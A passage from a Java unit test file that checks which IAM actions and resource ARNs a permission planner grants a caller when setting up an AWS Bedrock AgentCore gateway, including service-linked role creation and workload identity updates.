				new dev.agentcore.controlplane.network.PrivateEndpoint(null, "rcfg-0123456789abcdef0")));
		assertThat(tree(plan(spec(ROLE, null), List.of(lattice)).callerPolicy()).toString())
			.doesNotContain("CreateServiceLinkedRole").doesNotContain("ec2:");
	}

	@Test
	void anIdpProfileReachedThroughAManagedVpcLetsTheCallerCreateAgentCoresNetworkRoleWithoutAnyTarget() {
		PermissionPlan plan = PermissionPlanner.plan("orders", GATEWAY_ARN, spec(ROLE, null), List.of(), null, true);
		assertThat(statement(plan.callerPolicy(), "CreateAgentCoreNetworkServiceLinkedRole").get("Resource").asString())
			.endsWith("/AWSServiceRoleForBedrockAgentCoreNetwork");
		assertThat(strings(statement(plan.callerPolicy(), "DescribeManagedVpcEndpointNetworks").get("Action")))
			.contains("ec2:DescribeSubnets");
		assertThat(plan.notes()).anyMatch(note -> note.startsWith("The IDP profile reaches its identity provider"))
			.noneMatch(note -> note.startsWith("Targets "));
		assertThat(tree(PermissionPlanner.plan("orders", GATEWAY_ARN, spec(ROLE, null), List.of(), null, false).callerPolicy())
			.toString()).doesNotContain("CreateServiceLinkedRole");
	}

	@Test
	void onlyAGatewayThatDeclaresReturnUrlsMayChangeItsWorkloadIdentity() {
		assertThat(tree(plan(spec(ROLE, null), List.of()).callerPolicy()).toString()).doesNotContain("UpdateWorkloadIdentity");
		GatewaySpec declaring = new GatewaySpec(null, ROLE, new GatewaySpec.Authorizer(GatewaySpec.AuthorizerType.AWS_IAM, null),
				null, null, null, Map.of(), null, null, null, null, null, List.of("https://app.example.com/done"));
		JsonNode statement = statement(plan(declaring, List.of()).callerPolicy(), "SetGatewayOAuthReturnUrls");
		assertThat(statement.get("Resource").asString())
			.isEqualTo("arn:aws:bedrock-agentcore:*:111122223333:workload-identity-directory/default/workload-identity/orders-*");
	}

}
